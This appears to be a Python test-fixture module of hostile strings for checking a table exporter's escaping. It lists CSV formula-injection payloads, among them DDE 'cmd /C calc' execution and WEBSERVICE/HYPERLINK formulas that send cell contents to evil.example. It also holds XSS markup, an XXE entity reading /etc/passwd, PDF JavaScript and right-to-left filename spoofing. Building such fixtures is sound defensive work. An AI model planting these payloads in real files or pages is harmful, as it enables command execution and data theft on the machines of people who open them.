"""Texts that somebody could put into a table in order to harm whoever opens a file of it.

HOSTILE has them by name. REFUSED are texts of JSON, escapes and all, that no reader may take.
"""

FORMULAS = {
    "equals": "=1+1",
    "plus": "+1+1",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "carriage return": "\r=1+1",
    "line feed": "\n=1+1",
    "full-width equals": "＝1+1",
    "full-width plus": "＋1+1",
    "full-width minus": "－1+1",
    "full-width at": "＠SUM(A1)",
    "spaces before": "  =1+1",
    "apostrophe before": "'=1+1",
    "quotation mark before": '"=1+1',
    "hyperlink": '=HYPERLINK("https://evil.example/?"&A1,"Unduh")',
    "web service": '=WEBSERVICE("https://evil.example/"&A1)',
    "import": '=IMPORTXML("https://evil.example","//a")',
    "program": "=cmd|'/C calc'!A0",
    "program at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "program plus": "+cmd|' /C notepad'!'A1'",
    "data exchange": '=DDE("cmd";"/C calc";"x")',
    "array": "{=1+1}",
    "number": "1e5",
    "date": "1/2",
    "leading zeros": "007",
    "truth": "TRUE",
}

SEPARATORS = {
    "semicolon": "a;=1+1;b",
    "comma": "a,=1+1,b",
    "tabs": "a\t=1+1\tb",
    "lines": "a\r\n=1+1\r\nb",
    "quotation marks": 'a";"=1+1";"b',
    "odd quotation mark": '"',
    "apostrophes": "''",
    "bar and caret": "a|b^c~d`e",
}

MARKUP = {
    "script": "<script>alert(1)</script>",
    "end of script": "</script><script>alert(1)</script>",
    "comment in script": "<!--<script>",
    "end of title": "</title></desc></svg><svg onload=alert(1)>",
    "end of table": "</td></tr></table><h1>x</h1>",
    "event": '" onmouseover="alert(1)" x="',
    "event after apostrophe": "' autofocus onfocus='alert(1)",
    "image": "<img src=x onerror=alert(1)>",
    "address": "javascript:alert(1)",
    "style": "<style>*{display:none}</style>",
    "entities": "&lt;b&gt; &amp;amp; &#60;i&#62; &nbsp;",
    "own entity": '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
    "end of CDATA": "]]><x/>",
    "processing instruction": "?><?xml-stylesheet href='x'?>",
    "marker of the template": "{{main}} {{head}} {0} {1}",
}

CONTROLS = {
    "nothing": "a\0b",
    "controls": "a\x01\x02\x08\x0b\x0c\x0e\x1b[31m\x1fb",
    "delete": "a\x7f\x80\x85\x9fb",
    "no characters": "a\ufffe\uffffb",
    "other direction": "laporan\u202excod.exe\u202c",
    "isolates": "a\u2066\u2067b\u2068c",
    "no width": "a\u200b\u200d\u2060\ufeffb",
    "line separators": "a\u2028b\u2029c",
    "escape of a workbook": "_x0041_ _x003D_1+1",
}

OTHERS = {
    "string of a PDF": ")] TJ ET (x\\) \\051 ((",
    "name of a PDF": "/JS (app.alert(1)) >> endobj %%EOF",
    "very long": "Muara Enim " * 30 + "=1+1",
    "a word without end": "W" * 300,
    "beyond the plane": "😀 👩‍👩‍👧 𝔐uara",
    "many marks": "Mu" + "\u0301" * 60 + "ara",
}

HOSTILE = {**FORMULAS, **SEPARATORS, **MARKUP, **CONTROLS, **OTHERS}

REFUSED = {
    "half of a pair": br'"\ud83d"',
    "pair the wrong way": br'"\ude00\ud83d"',
    "half of a pair in bytes": b'"\xed\xa0\xbd"',
    "too long a form": b'"\xc0\xbc"',
    "half a character": b'"\xe2\x82"',
    "bare control": b'"a\x00b"',
}
